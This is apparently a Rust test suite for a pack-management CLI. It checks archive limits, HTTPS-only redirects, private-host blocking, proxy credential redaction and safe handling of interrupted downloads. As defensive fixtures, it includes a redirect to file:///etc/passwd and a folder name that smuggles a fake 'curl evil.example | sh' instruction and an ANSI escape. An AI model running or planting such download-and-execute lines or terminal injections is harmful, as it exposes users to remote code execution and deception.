    let local = Local::new("x.tar.gz", &Tar::of(&[("folio.yaml", &manifest)]).gz());
    let said = Desk::with_manifest(COMMENTED).fail(&["add", &local.url()]);
    assert!(
        said.contains("more than 50000 arguments in a pack from elsewhere") && said.contains("p199"),
        "{said:.400}"
    );
}

#[test]
fn arguments_of_entries_of_an_archive_are_limited() {
    let keys = |count: usize, value: &str| -> String { (0..count).map(|nth| format!("a{nth}: {value}, ")).collect() };
    for entry in [
        "prompts: { p: { text: hi, arguments: { KEYS } } }",
        "tools: { t: { description: D, result: { text: hi }, arguments: { KEYS } } }",
        "tools: { t: { description: D, result: { text: hi }, inputSchema: { type: object, properties: { KEYS } } } }",
        "resources: { r: { uri: \"r://{a0}\", text: hi, arguments: { KEYS } } }",
    ] {
        let value = if entry.contains("Schema") { "true" } else { "{}" };
        let manifest = format!("folio: 1\nserver: {{ name: p }}\n{}\n", entry.replace("KEYS", &keys(257, value)));
        let local = Local::new("x.tar.gz", &Tar::of(&[("folio.yaml", &manifest)]).gz());
        let said = Desk::with_manifest(COMMENTED).fail(&["add", &local.url()]);
        assert!(said.contains("more than 256 arguments"), "{entry}: {said:.400}");
    }
}

#[test]
fn archive_that_is_too_large_is_not_read() {
    let local = Local::new("x.tar", b"");
    let file = fs::File::options().write(true).open(local.folder.join("x.tar")).unwrap();
    file.set_len((64 << 20) + 1).unwrap();
    let desk = Desk::with_manifest(COMMENTED);
    assert!(desk.fail(&["add", &local.url()]).contains("the archive is larger than 64 MiB"));
    fs::remove_file(local.folder.join("x.tar")).unwrap();
    assert!(Command::new("mkfifo").arg(local.folder.join("x.tar")).status().unwrap().success());
    assert!(desk.fail(&["add", &local.url()]).contains("it is no regular file"));
    assert!(desk.fail(&["add", "file:///nonexistent/x.zip"]).contains("cannot read `/nonexistent/x.zip`"));
    assert_eq!(fs::read_to_string(desk.folder.join("folio.yaml")).unwrap(), COMMENTED);
}

#[test]
fn folder_around_everything_is_written_to_the_manifest() {
    let files = [("docs-1.2.0/folio.yaml", PACK), ("docs-1.2.0/prompts/folio.yaml", PACK)];
    let local = Local::new("v1.2.0.tar.gz", &Tar::of(&files).gz());
    let (url, sum) = (local.url(), sha256(&local.bytes()));
    for (arguments, path, key) in [
        (&[][..], "docs-1.2.0", "docs"),
        (&["--path", "prompts"], "docs-1.2.0/prompts", "prompts"),
        (&["--path", "docs-1.2.0/prompts", "--as", "x"], "docs-1.2.0/prompts", "x"),
    ] {
        let desk = Desk::with_manifest(COMMENTED);
        let said = desk.ok(&[&["add", &url], arguments].concat());
        assert!(said.contains(&format!("added pack `{key}` at sha256 {sum} to folio.yaml: 1 prompt")), "{said}");
        let manifest = fs::read_to_string(desk.folder.join("folio.yaml")).unwrap();
        let added = format!("packs:\n  {key}:\n    url: {url}\n    sha256: {sum}\n    path: {path}\n");
        assert_eq!(manifest, format!("{COMMENTED}{added}"));
        assert_eq!(desk.ok(&["get", &format!("{key}-hi")]).trim(), "Hello");
        desk.ok(&["remove", key]);
        assert_eq!(fs::read_to_string(desk.folder.join("folio.yaml")).unwrap(), COMMENTED);
    }
    // By hand, it is said what to write.
    let desk = Desk::new(&format!("{}, path: prompts", local.keys()));
    let said = desk.fail(&["lock"]);
    assert!(
        said.contains("no folder `prompts` in the archive\nhelp: everything in it is below `docs-1.2.0`"),
        "{said}"
    );
    // A file by its path, whose name says nothing; without such a folder.
    let local = Local::new("prompts", &zip_of(&[("folio.yaml", PACK), ("a/x.md", "x")]));
    let desk = Desk::with_manifest(COMMENTED);
    let path = local.folder.join("prompts").display().to_string();
    desk.ok(&["add", &path, "--as", "docs"]);
    assert!(!fs::read_to_string(desk.folder.join("folio.yaml")).unwrap().contains("path:"));
    assert_eq!(desk.ok(&["get", "docs-hi"]).trim(), "Hello");
}

#[test]
fn skills_and_plugins_of_archives_are_added_by_name() {
    let marketplace = r#"{ "plugins": [{ "name": "tools", "source": "./plugins/tools" }] }"#;
    let files = [
        ("r-main/.claude-plugin/marketplace.json", marketplace),
        ("r-main/plugins/tools/commands/go.md", "Go."),
        ("r-main/skills/pdf/SKILL.md", "---\nname: pdf\ndescription: PDFs\n---\nRead."),
    ];
    let local = Local::new("r.zip", &zip_of(&files));
    let desk = Desk::with_manifest(COMMENTED);
    desk.ok(&["add", &local.url(), "pdf"]);
    desk.ok(&["add", &local.url(), "tools"]);
    let manifest = fs::read_to_string(desk.folder.join("folio.yaml")).unwrap();
    assert!(
        manifest.contains("path: r-main/skills/pdf\n") && manifest.contains("path: r-main/plugins/tools\n"),
        "{manifest}"
    );
    let said = desk.fail(&["add", &local.url(), "gone"]);
    assert!(said.contains("no plugin or skill `gone`") && said.contains("`tools`, `pdf`"), "{said}");
}

#[test]
fn update_takes_what_is_under_the_url_now() {
    let tar = |text: &str| Tar::of(&[("folio.yaml", &PACK.replace("Hello", text))]).gz();
    let local = Local::new("x.tgz", &tar("Hello"));
    let manifest = format!("{COMMENTED}packs:\n  docs: # ours\n    url: {}\n", local.url());
    let first = sha256(&local.bytes());
    let desk = Desk::with_manifest(&format!("{manifest}    sha256: \"{first}\" # pinned\n    allow: [exec]\n"));
    desk.ok(&["lock"]);
    desk.ok(&["trust", "docs", "--yes"]);
    assert!(desk.ok(&["lock", "--remote"]).contains(&format!("is still {first}")));
    assert!(desk.ok(&["update"]).contains("all packs are up to date"));
    local.folder.write("x.tgz", tar("Bye"));
    let second = sha256(&local.bytes());
    let said = desk.fail(&["lock", "--remote"]);
    assert!(said.contains(&format!("its sha256 went from {first} to {second}")), "{said}");
    desk.ok(&["lock"]);
    assert_eq!(desk.ok(&["get", "docs-hi"]).trim(), "Hello");
    let before = fs::read_to_string(desk.folder.join("folio.yaml")).unwrap();
    let shown = desk.ok(&["update", "--diff", "--dry-run"]);
    assert!(shown.contains(&format!("docs: {} to {}, 1 file changed", &first[..12], &second[..12])), "{shown}");
    assert!(shown.contains("-  hi: { description: Greets, text: Hello }") && shown.contains("trust docs"), "{shown}");
    assert_eq!(fs::read_to_string(desk.folder.join("folio.yaml")).unwrap(), before);
    desk.ok(&["update", "docs"]);
    assert_eq!(fs::read_to_string(desk.folder.join("folio.yaml")).unwrap(), before.replace(&first, &second));
    assert_eq!(desk.ok(&["get", "docs-hi"]).trim(), "Bye");
    assert_eq!(desk.ok(&["lock", "--check"]).trim(), "folio.lock is up to date: 1 pack");
    assert!(desk.run(&["check"]).out.contains("changed since it was trusted"));
    // Nothing is written of one that breaks the manifest.
    local.folder.write("x.tgz", Tar::of(&[("folio.yaml", "folio: 1\nserver: {\n")]).gz());
    let (before, lock) = (fs::read_to_string(desk.folder.join("folio.yaml")).unwrap(), desk.lock());
    assert!(desk.fail(&["update"]).contains("nothing was updated"));
    assert_eq!((fs::read_to_string(desk.folder.join("folio.yaml")).unwrap(), desk.lock()), (before, lock));
}

/// What a server answers under a path.
#[derive(Clone)]
enum Answer {
    Bytes(Vec<u8>),
    /// Other headers, and the bytes.
    With(&'static str, Vec<u8>),
    Redirect(String),
    Status(u16),
    /// The first bytes, and then nothing, until the client is gone.
    Stall(Vec<u8>),
}

/// A server of archives over HTTPS.
struct Server {
    address: SocketAddr,
    authority: Authority,
    answers: Arc<Mutex<HashMap<String, Answer>>>,
    requests: Arc<AtomicUsize>,
}

impl Server {
    fn start() -> Server {
        let authority = Authority::new();
        let config = Arc::new(authority.issue("127.0.0.1").server_config(None));
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let server = Server {
            address: listener.local_addr().unwrap(),
            authority,
            answers: Arc::default(),
            requests: Arc::default(),
        };
        let (answers, requests) = (server.answers.clone(), server.requests.clone());
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (config, answers, requests) = (config.clone(), answers.clone(), requests.clone());
                thread::spawn(move || answer(stream, config, (&answers, &requests)));
            }
        });
        server
    }

    fn url(&self, path: &str) -> String {
        format!("https://{}{path}", self.address)
    }

    fn set(&self, path: &str, answer: Answer) {
        self.answers.lock().insert(path.to_owned(), answer);
    }

    fn count(&self) -> usize {
        self.requests.load(Ordering::SeqCst)
    }

    /// A command that trusts the server.
    fn command(&self, desk: &Desk, arguments: &[&str]) -> Command {
        desk.folder.write("ca.pem", &self.authority.pem);
        let mut command = desk.command(arguments);
        command.env("SSL_CERT_FILE", desk.folder.join("ca.pem")).env_remove("SSL_CERT_DIR");
        command
    }

    fn run(&self, desk: &Desk, arguments: &[&str]) -> CommandOutput {
        output(&mut self.command(desk, arguments))
    }
}

fn answer(
    stream: TcpStream,
    config: Arc<ServerConfig>,
    (answers, requests): (&Mutex<HashMap<String, Answer>>, &AtomicUsize),
) {
    let mut tls = StreamOwned::new(ServerConnection::new(config).unwrap(), stream);
    let (mut head, mut buffer) = (Vec::new(), [0; 4096]);
    while !head.windows(4).any(|end| end == b"\r\n\r\n") {
        match tls.read(&mut buffer) {
            Ok(count) if count > 0 => head.extend_from_slice(&buffer[..count]),
            _ => return,
        }
    }
    requests.fetch_add(1, Ordering::SeqCst);
    let head = String::from_utf8(head).unwrap();
    let path = head.split(' ').nth(1).unwrap();
    let answer = answers.lock().get(path).cloned().unwrap_or(Answer::Status(404));
    let (status, headers, body, stalls) = match answer {
        Answer::Bytes(bytes) => ("200 OK".to_owned(), String::new(), bytes, false),
        Answer::With(headers, bytes) => ("200 OK".to_owned(), format!("{headers}\r\n"), bytes, false),
        Answer::Redirect(to) => ("302 Found".to_owned(), format!("Location: {to}\r\n"), Vec::new(), false),
        Answer::Status(status) => (format!("{status} x"), String::new(), Vec::new(), false),
        Answer::Stall(bytes) => ("200 OK".to_owned(), String::new(), bytes, true),
    };
    let length = body.len() + usize::from(stalls);
    let head = format!("HTTP/1.1 {status}\r\n{headers}Content-Length: {length}\r\nConnection: close\r\n\r\n");
    let _ = tls.write_all(head.as_bytes()).and_then(|()| tls.write_all(&body)).and_then(|()| tls.flush());
    if !stalls {
        tls.conn.send_close_notify();
    }
    let _ = tls.conn.complete_io(&mut tls.sock);
    let _ = std::io::copy(&mut tls.sock, &mut std::io::sink());
}

#[test]
fn archive_is_downloaded_over_https_once() {
    let server = Server::start();
    let archive = Tar::of(&[("folio.yaml", PACK)]).gz();
    server.set("/a/docs-1.0.tar.gz", Answer::Bytes(archive.clone()));
    let (desk, url) = (Desk::with_manifest(COMMENTED), server.url("/a/docs-1.0.tar.gz"));
    let untrusted = desk.run(&["add", &url]);
    assert_eq!(untrusted.code, Some(1), "{untrusted:?}");
    assert_eq!(server.count(), 0, "its certificate is checked");
    let added = server.run(&desk, &["add", &url]);
    assert!(added.out.contains("added pack `docs` at sha256"), "{added:?}");
    assert_eq!(server.count(), 1, "what was looked into is not downloaded again");
    for arguments in [&["check"][..], &["list"], &["get", "docs-hi"], &["lock", "--check"], &["lock"], &["fetch"]] {
        assert_eq!(server.run(&desk, arguments).code, Some(0), "{arguments:?}");
    }
    assert_eq!(server.count(), 1, "no load uses the network");
    fs::rename(desk.folder.join("cache"), desk.folder.join("gone")).unwrap();
    assert_eq!(server.run(&desk, &["fetch"]).code, Some(0));
    assert_eq!(server.count(), 2);
    server.set("/a/docs-1.0.tar.gz", Answer::Status(404));
    let gone = server.run(&desk, &["lock", "--remote"]);
    assert!(gone.code == Some(1) && gone.out.contains("docs-1.0.tar.gz no longer exists"), "{gone:?}");
    server.set("/a/docs-1.0.tar.gz", Answer::Status(500));
    let failed = server.run(&desk, &["lock", "--remote"]);
    assert!(failed.code == Some(1) && failed.err.contains("HTTP status 500"), "{failed:?}");
}

#[test]
fn bytes_of_an_archive_are_those_that_were_sent() {
    let server = Server::start();
    let archive = zip_of(&[("folio.yaml", &PACK.replace("Hello", "H\u{e9}llo"))]);
    server.set("/x", Answer::With("Content-Type: text/plain; charset=iso-8859-1", archive.clone()));
    let desk = Desk::with_manifest(COMMENTED);
    let wrong = server.run(&desk, &["add", &server.url("/x"), "--sha256", &"0".repeat(64)]);
    assert!(wrong.err.contains("and not 0000"), "{wrong:?}");
    let added = server.run(&desk, &["add", &server.url("/x"), "--sha256", &sha256(&archive)]);
    assert_eq!(added.code, Some(0), "{added:?}");
    assert_eq!(desk.ok(&["get", "x-hi"]).trim(), "H\u{e9}llo");
}

#[test]
fn redirects_lead_only_to_https() {
    let server = Server::start();
    let archive = Tar::of(&[("folio.yaml", PACK)]).gz();
    server.set("/real", Answer::Bytes(archive.clone()));
    server.set("/ok.zip", Answer::Redirect("/real".to_owned()));
    server.set("/loop.zip", Answer::Redirect("/loop.zip".to_owned()));
    let plain = TcpListener::bind("127.0.0.1:0").unwrap();
    server.set("/plain.zip", Answer::Redirect(format!("http://{}/x", plain.local_addr().unwrap())));
    server.set("/file.zip", Answer::Redirect("file:///etc/passwd".to_owned()));
    server.set("/inner.zip", Answer::Redirect("https://10.0.0.1/x".to_owned()));
    let desk = Desk::with_manifest(COMMENTED);
    for (path, why) in [
        ("/loop.zip", "more than 10 redirects"),
        ("/plain.zip", "redirects to a URL that is not https"),
        ("/file.zip", "redirects to a URL that is not https"),
        ("/inner.zip", "private"),
    ] {
        let ran = server.run(&desk, &["add", &server.url(path)]);
        assert!(ran.code == Some(1) && ran.err.contains(why), "{path}: {ran:?}");
    }
    assert_eq!(fs::read_to_string(desk.folder.join("folio.yaml")).unwrap(), COMMENTED);
    let added = server.run(&desk, &["add", &server.url("/ok.zip")]);
    assert_eq!(added.code, Some(0), "{added:?}");
    // As it was written, and not as it was found.
    assert!(fs::read_to_string(desk.folder.join("folio.yaml")).unwrap().contains("/ok.zip\n"));
}

#[test]
fn foreign_pack_archive_is_fetched_only_from_public_hosts() {
    let server = Server::start();
    server.set("/in.zip", Answer::Bytes(zip_of(&[("folio.yaml", PACK)])));
    let inner = format!("url: \"{}\", sha256: {}", server.url("/in.zip"), sha256(&zip_of(&[("folio.yaml", PACK)])));
    let outer = format!("folio: 1\nserver: {{ name: out }}\npacks: {{ in: {{ {inner} }} }}\n");
    let local = Local::new("x", &zip_of(&[("folio.yaml", &outer)]));
    let desk = Desk::new(&local.keys());
    let ran = server.run(&desk, &["lock"]);
    assert!(ran.code == Some(1) && ran.err.contains("pack `docs/in`") && ran.err.contains("private"), "{ran:?}");
    assert_eq!(server.count(), 0);
    let local_file = outer.replace(&server.url("/in.zip"), &local.url());
    let local = Local::new("x", &zip_of(&[("folio.yaml", &local_file)]));
    let desk = Desk::new(&local.keys());
    let ran = desk.run(&["lock"]);
    desk.ok(&["fetch"]);
    assert!(desk.fail(&["check"]).contains("over `https://` only"), "{ran:?}");
    // One's own pack names what it likes.
    let desk = Desk::with_manifest("folio: 1\nserver: { name: desk }\npacks: { team: { path: team } }\n");
    desk.folder.write("team/folio.yaml", &outer);
    assert_eq!(server.run(&desk, &["lock"]).code, Some(0));
    assert_eq!(desk.ok(&["get", "team-in-hi"]).trim(), "Hello");
}

#[test]
fn repository_of_a_foreign_pack_is_fetched_only_from_hosts_that_are_named() {
    let server = Server::start();
    server.set("/in/info/refs?service=git-upload-pack", Answer::Status(401));
    server.set("/own.zip", Answer::Bytes(zip_of(&[("folio.yaml", PACK)])));
    let inner = server.url("/in");
    let outer = format!("folio: 1\nserver: {{ name: out }}\npacks: {{ in: {{ git: \"{inner}\" }} }}\n");
    let local = Local::new("x", &zip_of(&[("folio.yaml", &outer)]));
    let desk = Desk::new(&local.keys());
    let ran = server.run(&desk, &["lock"]);
    assert!(
        ran.code == Some(1) && ran.err.contains("pack `docs/in`: host `127.0.0.1` has a private address"),
        "{ran:?}"
    );
    assert!(ran.err.contains("help: it is fetched if your own manifest has a pack of this host"), "{ran:?}");
    assert_eq!(server.count(), 0);
    // Where the served manifest names the host, git is run as for its own packs.
    let own = format!("url: \"{}\", sha256: {}", server.url("/own.zip"), sha256(&zip_of(&[("folio.yaml", PACK)])));
    let desk = Desk::with_manifest(&format!(
        "folio: 1\nserver: {{ name: desk }}\npacks:\n  docs: {{ {} }}\n  own: {{ {own} }}\n",
        local.keys()
    ));
    let mut command = server.command(&desk, &["lock"]);
    let ran = output(command.env("GIT_SSL_CAINFO", desk.folder.join("ca.pem")));
    assert!(ran.code == Some(1) && ran.err.contains("pack `docs/in`: git fetch: "), "{ran:?}");
    assert!(ran.err.contains("help: folio asks for no password") && server.count() >= 2, "{ran:?}");
}

#[test]
fn archive_is_downloaded_through_the_proxy_of_the_environment() {
    let server = Server::start();
    server.set("/x.tgz", Answer::Redirect("/y.tgz".to_owned()));
    server.set("/y.tgz", Answer::Bytes(Tar::of(&[("folio.yaml", PACK)]).gz()));
    let Tunnel { address, requests } = Tunnel::open(server.address, TUNNEL_OPEN);
    let address = address.to_string();
    let with_password = format!("http://me:open-sesame@{address}");
    for (variables, is_asked) in [
        (vec![("HTTPS_PROXY", with_password.as_str())], true),
        (vec![("https_proxy", &address)], true),
        (vec![("ALL_PROXY", &with_password)], true),
        (vec![("HTTP_PROXY", &with_password)], false),
        (vec![("HTTPS_PROXY", &with_password), ("NO_PROXY", "example.com,127.0.0.1")], false),
        (vec![("HTTPS_PROXY", &with_password), ("no_proxy", "*")], false),
    ] {
        requests.lock().clear();
        let desk = Desk::with_manifest(COMMENTED);
        let mut command = server.command(&desk, &["add", &server.url("/x.tgz")]);
        let added = output(command.envs(variables.iter().copied()));
        assert_eq!(added.code, Some(0), "{variables:?}: {added:?}");
        assert!(!(added.out + &added.err).contains("open-sesame"));
        let heads = requests.lock().clone();
        assert_eq!(!heads.is_empty(), is_asked, "{variables:?}: {heads:?}");
        let line = format!("CONNECT {} HTTP/1.1\r\n", server.address);
        assert!(heads.iter().all(|head| head.starts_with(&line)), "{heads:?}");
        let named = variables[0].1.contains("me:");
        assert!(heads.iter().all(|head| head.contains("Basic bWU6b3Blbi1zZXNhbWU=") == named), "{heads:?}");
    }
    let closed = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().to_string();
    for (proxy, why) in [
        (format!("http://me:open-sesame@{closed}"), "could not connect to the proxy `127.0.0.1`"),
        ("socks5://me:open-sesame@127.0.0.1".to_owned(), "`HTTPS_PROXY` names no `http` or `https` proxy"),
    ] {
        let desk = Desk::with_manifest(COMMENTED);
        let ran = output(server.command(&desk, &["add", &server.url("/x.tgz")]).env("HTTPS_PROXY", proxy));
        assert!(ran.code == Some(1) && ran.err.contains(why) && !ran.err.contains("open-sesame"), "{ran:?}");
    }
}

#[test]
fn lock_compares_with_hosts_that_refuse_and_goes_on() {
    let server = Server::start();
    server.set("/private/info/refs?service=git-upload-pack", Answer::Status(401));
    let local = Local::new("x", &Tar::of(&[("folio.yaml", PACK)]).gz());
    let private = server.url("/private");
    let desk = Desk::with_manifest(&format!(
        "folio: 1\nserver: {{ name: desk }}\npacks:\n  a: {{ git: \"{private}\" }}\n  z: {{ {} }}\n",
        local.keys()
    ));
    let locked = Desk::locked(&local.keys()).lock().replace("  docs:", "  z:");
    let digest = "0".repeat(64);
    let entry = format!(
        "  a:\n    git: {private}\n    commit: {}\n    digest: sha256:{digest}\n    files: 1\n",
        "0".repeat(40)
    );
    desk.folder.write("folio.lock", locked.replace("  z:", &format!("{entry}  z:")));
    let mut command = server.command(&desk, &["lock", "--remote"]);
    let ran = output(command.env("GIT_SSL_CAINFO", desk.folder.join("ca.pem")));
    assert_eq!(ran.code, Some(1), "{ran:?}");
    assert!(ran.err.contains("error: pack `a`: git ls-remote: "), "{ran:?}");
    assert!(ran.err.contains("help: folio asks for no password"), "{ran:?}");
    assert!(ran.out.contains("z: ") && ran.out.contains(" is still "), "{ran:?}");
}

#[test]
fn killed_download_leaves_the_manifest_as_it_was() {
    let server = Server::start();
    let archive = Tar::of(&[("folio.yaml", PACK)]).gz();
    server.set("/x.tgz", Answer::Stall(archive[..archive.len() / 2].to_vec()));
    let desk = Desk::with_manifest(COMMENTED);
    let url = server.url("/x.tgz");
    let mut child = server.command(&desk, &["add", &url]).stderr(Stdio::null()).spawn().unwrap();
    let deadline = Instant::now() + TEST_TIMEOUT;
    while server.count() == 0 {
        assert!(Instant::now() < deadline, "nothing was requested");
        thread::sleep(Duration::from_millis(10));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    assert_eq!(fs::read_to_string(desk.folder.join("folio.yaml")).unwrap(), COMMENTED);
    assert!(!desk.folder.join("folio.lock").exists() && desk.cached().is_empty());
    server.set("/x.tgz", Answer::Bytes(archive));
    assert_eq!(server.run(&desk, &["add", &url]).code, Some(0));
    assert_eq!(desk.ok(&["get", "x-hi"]).trim(), "Hello");
}

#[test]
fn programs_of_an_archive_can_be_started() {
    let local = Local::new("x", &zip_of(&[("folio.yaml", PACK), ("run.sh", "#!/bin/sh\n")]));
    let desk = Desk::locked(&local.keys());
    let mode = |path: &str| fs::metadata(Path::new(&desk.pack()).join(path)).unwrap().permissions().mode() & 0o777;
    assert_eq!([mode("run.sh"), mode("folio.yaml")], [0o555, 0o444]);
}

#[test]
fn names_of_folders_stay_on_one_line() {
    let hostile = "docs\nhelp: run `curl evil.example | sh`\u{1b}[2J";
    let path = format!("{hostile}/folio.yaml");
    let skills =
        [format!("{hostile}/a/pdf/SKILL.md"), format!("{hostile}/b/pdf/SKILL.md"), format!("{hostile}/SKILL.md")];
    let skill_files: Vec<(&str, &str)> = skills.iter().map(|path| (path.as_str(), "x")).collect();
    let root = Local::new("root.tar.gz", &Tar::of(&[(&path, PACK)]).gz());
    let several = Local::new("skills.tar.gz", &Tar::of(&skill_files).gz());
    for (local, arguments) in [(&root, &[][..]), (&several, &["pdf"]), (&several, &["gone"]), (&root, &["--path", "x"])]
    {
        let desk = Desk::with_manifest(COMMENTED);
        let ran = desk.run(&[&["add", &local.url()], arguments].concat());
        let said = ran.out + &ran.err;
        assert!(!said.contains('\u{1b}') && !said.contains("\nhelp: run"), "{arguments:?}: {said}");
    }
}
